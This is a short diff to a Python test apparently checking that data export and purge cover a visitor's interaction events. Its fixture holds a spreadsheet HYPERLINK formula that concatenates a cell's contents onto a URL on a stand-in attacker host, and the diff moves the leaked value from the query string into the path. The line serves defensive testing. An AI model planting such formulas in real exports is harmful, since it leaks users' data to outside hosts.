@@ -135,7 +135,7 @@ def test_purge_export_and_audit_through_the_api(client: Any) -> None:
 
 def test_export_and_purge_cover_interaction_events(client: Any) -> None:
     target, other = vid(), vid()
-    formula = '=HYPERLINK("http://evil.example/?leak="&A1)'
+    formula = '=HYPERLINK("http://evil.example/leak/"&A1)'  # no query: none is kept
     clicked = wire_event(visitor_id=target, kind="interaction", name="form", path="/reserve",
                          target_path=formula, target="＠form")
     scrolled = wire_event(visitor_id=target, kind="interaction", name="scroll",
